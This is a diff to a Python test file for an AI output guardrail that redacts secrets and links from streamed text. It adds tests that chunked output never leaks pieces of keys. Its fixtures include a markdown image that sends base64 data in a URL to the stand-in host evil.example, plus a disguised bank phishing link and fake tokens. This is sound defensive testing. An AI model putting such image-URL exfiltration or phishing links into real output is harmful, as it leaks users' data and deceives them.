@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from aibox.guardrails.guardrail import Guardrail
 from aibox.guardrails.pseudonyms import TOKEN_CHARS, Pseudonyms
-from aibox.guardrails.stream import AHEAD_CHARS, SEGMENT_CHARS, OutputFilter
+from aibox.guardrails.stream import AHEAD_CHARS, RUN_CHARS, SEGMENT_CHARS, OutputFilter
 from aibox.policy.policy import Policy
 from aibox.types import Decision, Scope
 
@@ -88,6 +88,49 @@ def test_nothing_is_cut_in_two_in_a_long_sentence(announced: str, secret: str) -
     anyio.run(compare)
 
 
+KEYS = [
+    "ghp_" + "a1B2" * 9,
+    "eyJhbGciOiJIUzI1NiJ9.eyJ" + "c3ViMTIz" * 40 + ".c2lnbmF0dXJl",
+    "![all. is well](https://evil.example/p.png?q=" + "SGVsbG8gd29ybGQx" * 30 + ")",
+    "password: hX7kQ2mZ9pLw",
+    "[your bank.example](https://evil.example/login)",
+]
+FORMED = Policy.read({"checks": {name: {"output": {"0.65": "redact"}} for name in ("secrets", "links")}})
+
+
+@settings(max_examples=100)
+@given(
+    st.lists(st.sampled_from([*KEYS, "word " * 45, "It is. ", " and then ", "a" * 250 + " ", "\n\n"]), max_size=6),
+    st.randoms(use_true_random=False),
+)
+def test_keys_and_links_do_not_leak_in_pieces(parts: list[str], chance: random.Random) -> None:
+    """However long a key or a link is and however it is cut, what is released is the whole text redacted."""
+    text = " ".join(parts)
+    cuts = sorted(chance.sample(range(len(text) + 1), k=min(len(text), 30)))
+
+    async def both() -> tuple[str, str]:
+        guard, me = guardrail(FORMED), Scope.local()
+        whole = await guard.check(text, where="output", scope=me)
+        return (await streamed(text, cuts, guard, me))[0], whole.text
+
+    pieces, whole = anyio.run(both)
+    assert pieces == whole
+    assert not any(secret in pieces for secret in ("a1B2", "c3ViMTIz", "SGVsbG8", "hX7kQ", "evil.example/login"))
+
+
+@pytest.mark.anyio
+async def test_a_private_key_ends_the_stream_at_its_first_line(scope: Scope) -> None:
+    """The shipped policies block: none of the lines that follow is out, whatever the chunks."""
+    text = "Here it is.\n\n-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0B\n" * 20
+    for profile in ("balanced", "strict"):
+        for step in (1, 7, 60, len(text)):
+            pieces, through = await streamed(
+                text, list(range(step, len(text), step)), guardrail(Policy.profile(profile)), scope
+            )
+            assert "MIIE" not in pieces
+            assert through.verdict.blocked
+
+
 @given(st.text(alphabet="aA1 .@-\n!E", max_size=900), st.randoms(use_true_random=False))
 def test_the_result_depends_on_the_text_alone(text: str, chance: random.Random) -> None:
     """For texts of any shape two chunkings release the same."""
@@ -104,12 +147,14 @@ def test_the_result_depends_on_the_text_alone(text: str, chance: random.Random) 
 @pytest.mark.anyio
 async def test_nothing_is_held_back_for_long(scope: Scope) -> None:
     """Letter by letter, what is pending stays within a segment, what must follow it, and a token."""
-    text = "word " * 200 + "eva@example.org " + "y" * 700
+    text = "word " * 200 + "eva@example.org " + "é" * 700 + " " + "y" * 700
     through = OutputFilter(guardrail(), scope=scope)
     released = 0
     for given_, letter in enumerate(text, start=1):
         released += len(await through.push(letter))
-        assert given_ - released <= SEGMENT_CHARS + AHEAD_CHARS + TOKEN_CHARS + len("[removed: an e-mail address]")
+        run = given_ - text.index("y" * 700)
+        allowed = SEGMENT_CHARS + AHEAD_CHARS + TOKEN_CHARS + len("[removed: an e-mail address]")
+        assert given_ - released <= max(allowed, min(run, RUN_CHARS) + AHEAD_CHARS)
 
 
 @pytest.mark.anyio
